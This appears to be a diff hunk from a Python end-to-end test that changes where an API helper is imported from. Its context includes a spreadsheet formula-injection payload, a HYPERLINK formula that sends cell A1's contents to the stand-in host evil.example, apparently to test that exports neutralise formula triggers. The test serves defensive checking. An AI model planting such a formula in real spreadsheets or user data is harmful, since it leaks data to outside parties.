@@ -10,7 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from tests.e2e import helpers as h
-from tests.e2e.conftest import Api
+from tests.support.api import Api
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 # Every trigger a spreadsheet reads as the start of a formula. Titles are single-line, so
